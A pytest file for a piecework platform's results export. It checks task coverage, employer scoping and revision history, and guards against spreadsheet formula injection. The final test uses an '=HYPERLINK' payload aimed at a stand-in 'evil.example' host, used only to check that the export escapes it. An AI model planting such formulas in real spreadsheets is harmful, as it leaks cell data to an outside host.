"""A job's results: every task once, with all that was handed in; nobody else's, and no formula."""

import msgspec
import pytest

from piecework.exports import exports_sql as sql
from piecework.exports.results import write_results
from piecework.jobs.job import JobNotFound
from piecework.tables import original
from tests.exports.past import Past, csv_rows, json_rows, past
from tests.given import Given
from tests.place import Place, place

__all__ = ["past", "place"]

BASE = "https://place.example"


def results_of(past: Past, job_id: str, *, employer_id: str | None = None, form: str = "csv") -> bytes:
    return past.file(
        lambda tx, into: write_results(tx, job_id, employer_id=employer_id, into=into, form=form, base_url=BASE)  # type: ignore[arg-type]
    )[0]


def jobs_of(past: Past) -> list[str]:
    return past.database.read(lambda tx: tx.ask_value("SELECT job_id FROM jobs ORDER BY job_id").all())


@pytest.mark.parametrize("page_size", [500, 1, 2])
def test_operator_gets_every_task_once(past: Past, page_size: int, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(sql, "TASKS_A_PAGE", page_size)
    counted = 0
    for job_id in jobs_of(past):
        query = "SELECT array_agg(task_id ORDER BY task_id) FROM tasks WHERE job_id = %(id)s"
        there = past.value(query, id=job_id) or []
        counted += len(there)
        for rows in (csv_rows(results_of(past, job_id)), json_rows(results_of(past, job_id, form="jsonl"))):
            assert [row["task_id"] for row in rows] == there
    assert counted > 2


def test_employer_gets_what_was_handed_in_under_a_place(past: Past):
    seen: set[str] = set()
    for job_id in jobs_of(past):
        owner = past.value("SELECT employer_id FROM jobs WHERE job_id = %(id)s", id=job_id)
        seen |= {row["status"] for row in json_rows(results_of(past, job_id, employer_id=owner, form="jsonl"))}
    assert seen >= {"SUBMITTED", "OK", "NOK"}
    assert seen <= {"SUBMITTED", "IN_REVISION", "OK", "NOK", "GIVEN_UP"}


def test_another_employers_job_looks_missing(past: Past):
    for job_id in (past.ids["job"], "no such job"):
        with pytest.raises(JobNotFound):
            results_of(past, job_id, employer_id=past.ids["olga"])


def test_what_was_handed_in_before_is_there(past: Past):
    job_id = past.value("SELECT job_id FROM submissions WHERE revision_number = 1 LIMIT 1")
    revised = [row for row in json_rows(results_of(past, job_id, form="jsonl")) if len(row["revisions"]) > 1]
    assert revised
    assert [revision["revision_number"] for revision in revised[0]["revisions"]] == [0, 1]
    assert revised[0]["proofs"] == revised[0]["revisions"][-1]["proofs"]
    assert revised[0]["revisions"][1]["asked_comment"] != ""
    flat = {row["task_id"]: row for row in csv_rows(results_of(past, job_id))}[revised[0]["task_id"]]
    assert msgspec.json.decode(flat["revisions"]) == revised[0]["revisions"]
    assert original(flat["proof_1"]) == revised[0]["proofs"][0]["text"]


def test_pictures_are_told_by_their_address(past: Past):
    job_id = past.value("SELECT job_id FROM uploads WHERE state = 'CLAIMED' LIMIT 1")
    rows = csv_rows(results_of(past, job_id))
    cells = [value for row in rows for name, value in row.items() if name.startswith("proof_")]
    assert [cell for cell in cells if cell.startswith(f"{BASE}/proofs/")]
    assert not [cell for cell in cells if "sha256" in cell]


def test_formula_that_a_worker_hands_in_is_a_text(place: Place):
    given: Given = place
    ada, wim = given.ada(), given.wim()
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    variables = [{"name": "URL", "values": ["=1+1", "-2"]}]
    job_id = given.running_job(ada, variables=variables, instructions=["see {{URL}}"], num_tasks=10)
    task_id = given.submitted_task(wim, job_id, evil)
    verdict = {"job_id": job_id, "task_id": task_id, "task_rating": "not_ok", "task_comment": "@no"}
    assert ada.api("jobs/rate-single-task", verdict)["ok"]

    def made(form: str) -> bytes:
        past = Past.__new__(Past)
        past.database = given.database
        return results_of(past, job_id, employer_id=ada.id, form=form)

    (row,) = csv_rows(made("csv"))
    assert (row["proof_1"], row["comment"]) == (f"'{evil}", "'@no")
    assert row["variable_URL"] in ("'=1+1", "'-2")
    assert not [cell for cell in row.values() if cell[:1] in tuple("=+-@\t\r")]
    (told,) = json_rows(made("jsonl"))
    assert told["proofs"] == [{"text": evil}]
    assert told["comment"] == "@no"
